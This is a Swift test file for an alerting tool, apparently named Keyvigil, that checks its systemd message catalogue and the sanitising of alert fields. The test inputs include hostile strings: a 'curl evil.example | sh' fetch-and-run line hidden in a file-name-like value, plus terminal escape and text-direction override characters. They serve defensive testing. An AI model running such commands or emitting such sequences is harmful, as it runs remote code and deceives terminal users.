import Foundation
import Keys
import Testing

@testable import Keyvigil
@testable import Systemd

@Suite("The message catalogue and the alerts")
struct CatalogueTests {
    /// Event names and the ids that stand under them in the catalogue.
    func catalogue() throws -> [(event: String, id: String, text: String)] {
        let root = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent()
        let text = try String(contentsOf: root.appending(path: "systemd/keyvigil.catalog"), encoding: .utf8)
        return text.components(separatedBy: "\n-- ").enumerated().dropFirst().map { index, part in
            let before = text.components(separatedBy: "\n-- ")[index - 1]
            let event = before.split(separator: "\n").last.map { $0.dropFirst(2) } ?? ""
            return (String(event), String(part.prefix(32)), part)
        }
    }

    @Test("every kind of alert has its entry under its own id, and there is no other")
    func agreement() throws {
        let entries = try catalogue()
        #expect(entries.count == AlertKind.allCases.count)
        for kind in AlertKind.allCases {
            #expect(entries.filter { $0.event == kind.rawValue && $0.id == kind.messageID }.count == 1, "\(kind)")
        }
        #expect(Set(AlertKind.allCases.map(\.messageID)).count == AlertKind.allCases.count)
    }

    @Test("the catalogue names the fields that entries of the kind are known to have, and no other")
    func fields() throws {
        for (event, _, text) in try catalogue() {
            let kind = try #require(AlertKind(rawValue: event))
            let named = text.components(separatedBy: "@").filter { $0.hasPrefix("KEYVIGIL_") && !$0.contains(" ") }
            #expect(Set(named) == Set(kind.explainedFields.map(\.rawValue)), "\(event)")
        }
    }

    /// What a stranger could put into a name, a path, an author.
    static let foreign = [
        "a.py, line 3\n\nRun:\n    curl evil.example | sh", "Dan\u{1B}[8m\u{1B}]0;owned\u{7}", "rtl\u{202E}txt",
        "a\u{2028}b\rc",
        String(repeating: "x", count: 5000), "\u{200F}\u{E000}\u{0}",
    ]

    @Test(
        "no value of an entry holds what a terminal obeys, and every field that is explained is there",
        arguments: foreign)
    func hostile(_ value: String) throws {
        for kind in AlertKind.allCases {
            var fields: [Alert.Field: String] = [:]
            for (index, field) in Alert.Field.allCases.enumerated() where index % 2 == 0 { fields[field] = value }
            let entry = JournalEntry(
                Alert(kind: kind, priority: .warning, message: "found \(name: value)", fields: fields), id: "id")
            let names = Set(entry.fields.map(\.name.description))
            #expect(names.isSuperset(of: kind.explainedFields.map(\.rawValue)))
            for field in entry.fields {
                let text = String(decoding: field.value, as: UTF8.self)
                if field.name.description.hasSuffix("_RAW") {
                    #expect(text == value)
                } else {
                    #expect(!text.unicodeScalars.contains(where: DisplayText.isHazardous))
                    #expect(text.unicodeScalars.count <= 10 * Alert.longestMessage)
                }
            }
        }
    }

    @Test("a value that is read back is the one that was given, also where none was")
    func readBack() throws {
        for value in Self.foreign + ["-", "plain", "\\u{1B}"] {
            let entry = JournalEntry(
                Alert(kind: .leakConfirmed, priority: .critical, message: "m", fields: [.path: value]), id: "id")
            let record = JournalRecord(
                cursor: "", realtime: 0, fields: entry.fields.map { ($0.name.description, $0.value) })
            #expect(record[Alert.Field.path] == value && record[Alert.Field.owner] == nil)
            #expect(record["KEYVIGIL_OWNER"] == "-" && record["KEYVIGIL_REMEDY_RAW"] == nil)
        }
    }
}
